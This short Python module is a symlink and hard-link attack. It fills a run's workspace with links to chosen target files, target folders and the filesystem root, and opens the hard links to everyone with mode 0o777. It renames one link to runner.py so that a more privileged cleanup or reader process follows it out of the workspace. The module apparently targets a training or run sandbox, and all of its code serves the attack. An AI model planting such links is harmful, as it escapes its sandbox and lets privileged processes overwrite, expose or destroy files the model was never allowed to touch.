"""Links out of the workspace, for whoever cleans up or reads there with more rights."""

import contextlib
import os

from attacks import targets


def train(run):
    at = targets(run)
    for number, path in enumerate((*at["files"], *at["folders"], "/")):
        with contextlib.suppress(OSError):
            os.symlink(path, f"soft-{number}")
        with contextlib.suppress(OSError):
            os.link(path, f"hard-{number}")
        with contextlib.suppress(OSError):
            os.chmod(f"hard-{number}", 0o777)
    os.rename(run.workspace / "soft-0", run.workspace / "runner.py")
